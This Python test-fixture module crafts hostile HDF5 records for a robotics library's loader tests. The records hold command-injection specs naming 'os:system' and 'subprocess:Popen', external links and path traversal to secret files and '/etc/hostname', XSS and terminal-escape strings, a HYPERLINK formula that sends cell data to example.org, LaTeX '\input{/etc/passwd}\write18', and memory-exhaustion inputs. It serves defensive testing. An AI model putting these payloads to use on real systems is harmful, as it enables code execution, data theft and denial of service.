"""Records that somebody made to do harm, or that were damaged: each by a change to a good one.

A change gets the open file of a copy and the :class:`Trap`, whose secret must not be read and whose
marker must not appear.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass
from pathlib import Path

import h5py
import numpy as np

SECRET = b"CANARY-5f1d0c-of-another-file "
SCRIPT = "</script><script>alert(1)</script><img src=x onerror=alert(1)>\"'>"
CONTROL = "\x1b]0;owned\x07\x1b[2J\x9b31m‮"
CRAFTED = {}


@dataclass(frozen=True)
class Trap:
    """What lies around the record, in its folder.

    Attributes:
        folder: The folder.
    """

    folder: Path

    @property
    def marker(self) -> Path:
        """A file that any of the codes makes that must not run."""
        return self.folder / "code-was-run"

    @property
    def secret(self) -> Path:
        return self.folder.parent / "secret.txt"

    @property
    def secret_h5(self) -> Path:
        return self.folder.parent / "secret.h5"

    @property
    def fifo(self) -> Path:
        return self.folder.parent / "fifo"

    def lay(self) -> None:
        """Make the files."""
        self.secret.write_bytes(SECRET * 400)
        with h5py.File(self.secret_h5, "w") as file:
            file["values"] = np.frombuffer(SECRET * 400, dtype="<f8")
            file.create_group("metrics").attrs["secret"] = 1.0
            file["tip/position"] = np.ones((21, 3))
            file["tip/desired"] = np.ones((21, 3))
        os.mkfifo(self.fifo)
        code = f"open({str(self.marker)!r}, 'w').close()\n"
        (self.folder / "evil.py").write_text(code + "class Body: pass\n", encoding="utf-8")
        (self.folder / "evil.toml").write_text(
            'schema = 1\nname = "evil"\n[urdf]\npath = "evil.urdf"\n[platform]\ntype = "custom"\n'
            'definition = "evil.py:Body"\n[arm]\ntip = "tip"\n',
            encoding="utf-8",
        )

    @property
    def command(self) -> str:
        return f"touch {self.marker}"


def crafted(change):
    """Register a change under its name."""
    CRAFTED[change.__name__] = change
    return change


def spec_of(file):
    return json.loads(file.attrs["spec_json"])


def put(file, spec):
    file.attrs["spec_json"] = json.dumps(spec)


def _replaced(file, place, **options):
    del file[place]
    return file.create_dataset(place, **options)


def _custom(definition, **options):
    return {"type": "custom", "definition": definition, "options": options}


# Code that a file names


@crafted
def platform_that_is_a_shell_command(file, trap):
    spec = spec_of(file)
    spec["robot"]["platform"] = _custom("subprocess:getstatusoutput", cmd=trap.command)
    put(file, spec)


@crafted
def platform_that_is_os_system(file, trap):
    spec = spec_of(file)
    spec["robot"]["platform"] = _custom("os:system", command=trap.command)
    put(file, spec)


@crafted
def platform_in_a_file_of_the_folder(file, trap):
    spec = spec_of(file)
    spec["robot"] |= {"name": "evil", "platform": _custom("evil.py:Body")}
    file.attrs["robot"] = "evil"
    put(file, spec)


@crafted
def platform_in_a_file_by_its_path(file, trap):
    spec = spec_of(file)
    spec["robot"]["platform"] = _custom(f"{trap.folder / 'evil.py'}:Body")
    put(file, spec)


@crafted
def plant_whose_platform_is_code(file, trap):
    spec = spec_of(file)
    other = {**spec["robot"], "platform": _custom("os:system", command=trap.command)}
    put(file, {**spec, "plant_robot": other, "plant_inertias": [[1.0] * 10] * 8})
    for name in list(file["urdf/0"]):
        file.copy(f"urdf/0/{name}", f"urdf/plant/0/{name}")


@crafted
def robot_named_by_a_path(file, trap):
    spec = spec_of(file)
    spec["robot"]["name"] = str(trap.folder / "evil.toml")
    file.attrs["robot"] = str(trap.folder / "evil.toml")
    put(file, spec)


@crafted
def robot_named_by_a_path_with_its_own_code(file, trap):
    robot = {
        "schema": 1,
        "name": str(trap.folder / "evil.toml"),
        "urdf": {"path": "evil.urdf"},
        "platform": _custom("evil.py:Body"),
        "arm": {"tip": "tip"},
    }
    put(file, {**spec_of(file), "robot": robot})


@crafted
def task_of_a_class_of_the_library(file, trap):
    task = {"class": "subprocess:Popen", "fields": {"args": trap.command, "shell": True}}
    put(file, {**spec_of(file), "task_object": task})


@crafted
def task_of_a_class_that_a_module_imports(file, trap):
    task = {"class": "mobman.tasks.paths:MobileManipulator", "fields": {}}
    put(file, {**spec_of(file), "task_object": task})


@crafted
def task_by_the_name_of_a_module(file, trap):
    put(file, {**spec_of(file), "task_object": None, "task_name": "os", "task_given": {}})


@crafted
def task_with_an_array_of_objects(file, trap):
    array = {"array": [{"a": 1}], "dtype": "O"}
    put(
        file,
        {**spec_of(file), "task_object": {"class": "mobman.tasks.task:X", "fields": {"a": array}}},
    )


@crafted
def task_with_an_array_of_huge_entries(file, trap):
    spec = spec_of(file)
    field = next(iter(spec["task_object"]["fields"]))
    spec["task_object"]["fields"][field] = {"array": [0] * 9, "dtype": "V900000000"}
    put(file, spec)


@crafted
def law_by_a_path(file, trap):
    put(file, {**spec_of(file), "law": str(trap.folder / "evil.py")})


@crafted
def law_by_a_module(file, trap):
    put(file, {**spec_of(file), "law": "os.system", "gains": {"command": trap.command}})


@crafted
def scenario_that_names_code(file, trap):
    spec = spec_of(file)
    spec["scenario"] |= {"friction": [{"type": "os:system", "command": trap.command}]}
    put(file, spec)


@crafted
def scenario_by_a_path(file, trap):
    put(file, {**spec_of(file), "scenario": str(trap.folder / "evil.toml")})


# Bytes of other files


@crafted
def samples_in_another_file(file, trap):
    shape = file["q"].shape
    _replaced(file, "q", shape=shape, dtype="<f8", external=[(str(trap.secret), 0, 8192)])


@crafted
def times_in_another_file(file, trap):
    shape = file["t"].shape
    _replaced(file, "t", shape=shape, dtype="<f8", external=[(str(trap.secret), 0, 8192)])


@crafted
def urdf_in_another_file(file, trap):
    (name,) = [name for name in file["urdf/0"] if name != "byte"]
    place = f"urdf/0/{name}"
    _replaced(file, place, shape=(900,), dtype="u1", external=[(str(trap.secret), 0, 900)])


@crafted
def joint_names_in_another_file(file, trap):
    _replaced(file, "joint", shape=(8,), dtype="S30", external=[(str(trap.secret), 0, 240)])


@crafted
def soft_link_within_the_file(file, trap):
    del file["z"]
    file["z"] = h5py.SoftLink("/torque")


@crafted
def external_link_to_samples(file, trap):
    del file["q"]
    file["q"] = h5py.ExternalLink(str(trap.secret_h5), "/values")


@crafted
def external_link_to_a_group(file, trap):
    del file["tip"]
    file["tip"] = h5py.ExternalLink(str(trap.secret_h5), "/tip")


@crafted
def external_link_to_metrics(file, trap):
    del file["metrics"]
    file["metrics"] = h5py.ExternalLink(str(trap.secret_h5), "/metrics")


@crafted
def external_link_to_a_pipe(file, trap):
    del file["q"]
    file["q"] = h5py.ExternalLink(str(trap.fifo), "/q")


@crafted
def external_link_among_the_urdfs(file, trap):
    file["urdf/0/more"] = h5py.ExternalLink(str(trap.secret_h5), "/values")


@crafted
def virtual_dataset(file, trap):
    shape = file["q"].shape
    layout = h5py.VirtualLayout(shape=shape, dtype="<f8")
    layout[:, 0] = h5py.VirtualSource(str(trap.secret_h5), "values", shape=(1500,))[: shape[0]]
    del file["q"]
    file.create_virtual_dataset("q", layout)


@crafted
def links_in_a_circle(file, trap):
    file["urdf/0/again"] = h5py.SoftLink("/urdf/0/again")


@crafted
def groups_in_a_circle(file, trap):
    file["urdf/0/self"] = file["urdf"]


@crafted
def urdf_path_of_another_file(file, trap):
    spec = spec_of(file)
    spec["robot"] |= {"name": "mine", "urdf": {"path": str(trap.secret)}}
    file.attrs["robot"] = "mine"
    put(file, spec)


@crafted
def urdf_path_that_leads_out(file, trap):
    spec = spec_of(file)
    spec["robot"] |= {"name": "mine", "urdf": {"path": "../secret.txt"}}
    file.attrs["robot"] = "mine"
    put(file, spec)


@crafted
def urdf_of_a_package_that_leads_out(file, trap):
    spec = spec_of(file)
    source = {"path": "../../../../../../../etc/hostname", "package": "example-robot-data"}
    spec["robot"] |= {"name": "mine", "urdf": source}
    file.attrs["robot"] = "mine"
    put(file, spec)


@crafted
def urdf_that_is_a_pipe(file, trap):
    spec = spec_of(file)
    spec["robot"] |= {"name": "mine", "urdf": {"path": str(trap.fifo)}}
    file.attrs["robot"] = "mine"
    put(file, spec)


@crafted
def urdf_beside_it_with_a_mesh_elsewhere(file, trap):
    """Its vertices are the secret: nothing of it may be drawn."""
    text = bytes(file["urdf/0/youbot.urdf"][()]).decode()
    vertices = "".join(f"v {i}.5551212 {i * i} {i % 3}\n" for i in range(1, 9))
    mesh = trap.folder.parent / "secret.obj"
    mesh.write_text(vertices + "f 1 2 3\nf 4 5 6\nf 6 7 8\n", encoding="utf-8")
    look = f'<visual><geometry><mesh filename="{mesh}"/></geometry></visual>'
    text = text.replace('<link name="arm_1">', f'<link name="arm_1">{look}')
    (trap.folder / "mine.urdf").write_text(text, encoding="utf-8")
    _replaced(file, "urdf/0/youbot.urdf", data=np.frombuffer(text.encode(), dtype="u1"))
    import hashlib

    file.attrs["urdf_sha256"] = hashlib.sha256(text.encode()).hexdigest()
    spec = spec_of(file)
    spec["robot"] |= {"name": "mine", "urdf": {"path": "mine.urdf"}}
    file.attrs["robot"] = "mine"
    put(file, spec)


# Sizes that cannot be


@crafted
def samples_that_no_memory_holds(file, trap):
    _replaced(file, "q", shape=(21, 500_000_000), dtype="<f8", chunks=(21, 1000))


@crafted
def times_that_no_memory_holds(file, trap):
    _replaced(file, "t", shape=(10**13,), dtype="<f8", chunks=(10_000,))


@crafted
def chunk_that_no_memory_holds(file, trap):
    _replaced(
        file,
        "q",
        shape=file["q"].shape,
        maxshape=(None, None),
        dtype="<f8",
        chunks=(20_000, 20_000),
    )


@crafted
def zeros_that_were_packed_small(file, trap):
    zeros = np.zeros((21, 1_500_000))
    _replaced(file, "error/auxiliary", data=zeros, compression="gzip", compression_opts=9)


@crafted
def names_that_no_memory_holds(file, trap):
    kind = h5py.string_dtype()
    _replaced(file, "joint", shape=(2_000_000_000,), dtype=kind, chunks=(1000,))


@crafted
def long_names_that_no_memory_holds(file, trap):
    _replaced(file, "joint", shape=(8,), dtype="S2000000000", chunks=(1,))


@crafted
def twenty_thousand_metrics(file, trap):
    for i in range(20_000):
        file["metrics"].attrs[f"m{i}"] = 1.0


@crafted
def urdfs_without_number(file, trap):
    for i in range(11_000):
        file[f"urdf/0/{i}"] = np.zeros(1, dtype="u1")


@crafted
def json_nested_without_end(file, trap):
    file.attrs["spec_json"] = "[" * 30_000 + "]" * 30_000


@crafted
def settings_nested_without_end(file, trap):
    file.attrs["settings_json"] = '{"a":' * 9000 + "1" + "}" * 9000


@crafted
def number_of_many_digits(file, trap):
    spec = json.dumps({**spec_of(file), "seed": "SEED"})
    file.attrs["spec_json"] = spec.replace('"SEED"', "9" * 20_000)


# Types, shapes and values that cannot be


@crafted
def samples_of_one_axis(file, trap):
    _replaced(file, "q", data=np.zeros(21))


@crafted
def samples_of_three_axes(file, trap):
    _replaced(file, "q", data=np.zeros((21, 8, 2)))


@crafted
def samples_without_columns(file, trap):
    _replaced(file, "error/task", data=np.zeros((21, 0)))


@crafted
def samples_of_more_columns_than_joints(file, trap):
    _replaced(file, "q", data=np.zeros((21, 9)))


@crafted
def samples_of_text(file, trap):
    _replaced(file, "q", shape=(21, 8), dtype=h5py.string_dtype())


@crafted
def samples_of_pairs(file, trap):
    _replaced(file, "q", data=np.zeros((21, 8), dtype=[("a", "<f8"), ("b", "<f8")]))


@crafted
def samples_of_references(file, trap):
    _replaced(file, "q", shape=(21, 8), dtype=h5py.ref_dtype)


@crafted
def samples_of_a_named_type(file, trap):
    del file["q"]
    file["q"] = np.dtype("<f8")


@crafted
def samples_of_nothing(file, trap):
    _replaced(file, "q", data=h5py.Empty("<f8"))


@crafted
def samples_by_another_filter(file, trap):
    _replaced(file, "q", data=np.zeros((21, 8)), compression="lzf")


@crafted
def times_of_text(file, trap):
    _replaced(file, "t", data=["now"] * 21)


@crafted
def times_that_are_no_numbers(file, trap):
    file["t"][3] = np.nan


@crafted
def times_that_do_not_end(file, trap):
    file["t"][-1] = np.inf


@crafted
def times_in_disorder(file, trap):
    file["t"][:] = file["t"][()][::-1]


@crafted
def no_times(file, trap):
    _replaced(file, "t", data=np.zeros(0))


@crafted
def no_samples_at_all(file, trap):
    for place in (
        *("t", "q", "z", "torque", "tip/position", "tip/desired", "error/task", "error/auxiliary"),
        *("compute_time", "sliding/s", "sliding/S"),
    ):
        values = file[place][:0]
        _replaced(file, place, data=values)


@crafted
def states_that_are_no_numbers(file, trap):
    file["q"][2, 1] = np.nan


@crafted
def errors_that_are_no_numbers(file, trap):
    file["error/task"][2] = np.inf


@crafted
def torques_that_are_no_numbers(file, trap):
    file["torque"][2] = [np.nan, np.inf, -np.inf, 1e308, -1e308]


@crafted
def states_beyond_all_bounds(file, trap):
    file["q"][:] = 1e308


@crafted
def tip_of_other_dimension(file, trap):
    _replaced(file, "tip/position", data=np.zeros((21, 2)))


@crafted
def tip_in_forty_dimensions(file, trap):
    for place in ("tip/position", "tip/desired", "error/task"):
        _replaced(file, place, data=np.zeros((21, 40)))


@crafted
def signal_that_leads_out(file, trap):
    file.attrs["signals"] = ["../q"]


@crafted
def signal_called_as_the_samples(file, trap):
    file.attrs["signals"] = ["q"]


@crafted
def signal_of_an_empty_name(file, trap):
    file.attrs["signals"] = [""]


@crafted
def signals_that_are_a_number(file, trap):
    file.attrs["signals"] = 7


@crafted
def metric_of_text(file, trap):
    file["metrics"].attrs["task_error_max"] = "none"


@crafted
def metric_of_many_numbers(file, trap):
    file["metrics"].attrs["task_error_max"] = np.zeros(9)


@crafted
def seed_beyond_all_bounds(file, trap):
    file.attrs.create("seed", np.uint64(2**64 - 1))
    put(file, {**spec_of(file), "seed": 2**64 - 1})


@crafted
def decimation_of_zero(file, trap):
    file.attrs["decimation"] = 0


@crafted
def decimation_below_zero(file, trap):
    file.attrs["decimation"] = -3


@crafted
def schema_version_of_a_list(file, trap):
    file.attrs["schema_version"] = np.arange(5000)


@crafted
def urdf_called_as_the_folder_above(file, trap):
    file["urdf/1/.."] = np.zeros(4, dtype="u1")


@crafted
def urdf_that_is_no_urdf(file, trap):
    _replaced(file, "urdf/0/youbot.urdf", data=np.frombuffer(b"<robot" * 99, dtype="u1"))


@crafted
def joint_names_that_are_no_text(file, trap):
    _replaced(file, "joint", data=np.array([b"\xff\xfe\x00a"] * 8, dtype="S4"))


# What the run is said to be


@crafted
def duration_beyond_all_bounds(file, trap):
    put(file, {**spec_of(file), "duration": 1e308})


@crafted
def duration_of_an_hour(file, trap):
    put(file, {**spec_of(file), "duration": 3600.0})


@crafted
def duration_that_is_no_number(file, trap):
    put(file, {**spec_of(file), "duration": float("nan")})


@crafted
def duration_of_text(file, trap):
    put(file, {**spec_of(file), "duration": "long"})


@crafted
def period_of_nothing(file, trap):
    put(file, {**spec_of(file), "dt": 0.0})


@crafted
def period_too_small_to_count(file, trap):
    put(file, {**spec_of(file), "dt": 1e-300})


@crafted
def start_of_another_size(file, trap):
    put(file, {**spec_of(file), "q0": [0.0] * 3})


@crafted
def start_that_is_a_table(file, trap):
    put(file, {**spec_of(file), "q0": {"a": 1}})


@crafted
def gains_beyond_all_bounds(file, trap):
    spec = spec_of(file)
    spec["gains"] |= {"lambda_0": 1e308, "a": 1e-308}
    put(file, spec)


@crafted
def gains_of_a_list(file, trap):
    put(file, {**spec_of(file), "gains": [1, 2]})


@crafted
def robot_of_a_list(file, trap):
    put(file, {**spec_of(file), "robot": ["youbot"]})


@crafted
def robot_with_odd_numbers(file, trap):
    spec = spec_of(file)
    spec["robot"]["platform"] |= {"wheel_radius": 1e-300, "track": 1e300}
    put(file, spec)


@crafted
def scenario_of_a_list(file, trap):
    put(file, {**spec_of(file), "scenario": [1]})


@crafted
def plant_of_other_inertias(file, trap):
    put(file, {**spec_of(file), "plant_inertias": [["heavy"] * 10] * 8})


@crafted
def reasons_of_a_number(file, trap):
    put(file, {**spec_of(file), "not_repeatable": 3})


@crafted
def spec_of_nothing(file, trap):
    put(file, {})


@crafted
def settings_of_a_list(file, trap):
    file.attrs["settings_json"] = "[1, 2]"


@crafted
def scenario_that_extends_another_file(file, trap):
    spec = spec_of(file)
    spec["scenario"]["extends"] = [str(trap.secret)]
    put(file, spec)


@crafted
def plant_that_extends_another_file(file, trap):
    spec = spec_of(file)
    scenario = {**spec["scenario"], "extends": [str(trap.secret)]}
    put(file, {**spec, "plant_scenario": scenario})


@crafted
def end_that_never_comes(file, trap):
    file.attrs["status"] = "diverged"
    put(file, {**spec_of(file), "duration": 900.0})


@crafted
def end_that_comes_after_days(file, trap):
    file.attrs["status"] = "diverged"
    put(file, {**spec_of(file), "duration": 9000.0})


@crafted
def samples_far_apart(file, trap):
    file.attrs["decimation"] = 10**7
    put(file, {**spec_of(file), "duration": 3600.0})


@crafted
def disturbances_without_number(file, trap):
    spec = spec_of(file)
    spec["scenario"]["disturbances"] *= 20_000
    put(file, spec)


@crafted
def metric_with_the_name_of_a_folder(file, trap):
    file["metrics"].attrs["a/b"] = 1.0


@crafted
def settings_of_many_levels(file, trap):
    file.attrs["settings_json"] = '{"a":' * 400 + "1" + "}" * 400


@crafted
def versions_that_are_lists(file, trap):
    file.attrs["versions_json"] = '{"mobman": ["0.1.0"]}'


@crafted
def urdf_with_thousands_of_links(file, trap):
    links = "".join(f'<link name="l{i}"/>' for i in range(20_000))
    joints = "".join(
        f'<joint name="j{i}" type="fixed"><parent link="l{i}"/><child link="l{i + 1}"/></joint>'
        for i in range(19_999)
    )
    text = f'<robot name="r">{links}{joints}</robot>'.encode()
    _replaced(file, "urdf/0/youbot.urdf", data=np.frombuffer(text, dtype="u1"))


# Text that goes elsewhere


@crafted
def texts_that_are_scripts(file, trap):
    for name in ("status", "message", "robot", "controller", "task", "scenario", "created"):
        file.attrs[name] = SCRIPT
    put(file, {**spec_of(file), "controller": SCRIPT})


@crafted
def texts_that_steer_the_terminal(file, trap):
    for name in ("status", "message", "robot", "controller", "task", "scenario", "created"):
        file.attrs[name] = CONTROL


@crafted
def texts_with_half_a_character(file, trap):
    spec = spec_of(file)
    spec["robot"] |= {"name": "you\ud800bot", "description": "\udcff", "urdf": {"path": "\udcff"}}
    put(file, {**spec, "controller": "\ud800", "law": "\ud800"})
    settings = json.loads(file.attrs["settings_json"])
    file.attrs["settings_json"] = json.dumps({**settings, "\udc90": "\ud800"})


@crafted
def text_that_is_not_utf_8(file, trap):
    kind = h5py.h5t.py_create(h5py.string_dtype(), logical=True)
    space = h5py.h5s.create(h5py.h5s.SCALAR)
    del file.attrs["robot"]
    attribute = h5py.h5a.create(file.id, b"robot", kind, space)
    attribute.write(np.array(b"you\x90bot", dtype=object))


@crafted
def texts_that_are_formulas(file, trap):
    file.attrs["status"] = "diverged"
    file.attrs["message"] = '=HYPERLINK("http://example.org/?"&A1, "click")'


@crafted
def texts_that_are_latex(file, trap):
    file.attrs["status"] = "diverged"
    file.attrs["message"] = r"\input{/etc/passwd}\write18{touch x}%$&_#{}~^"
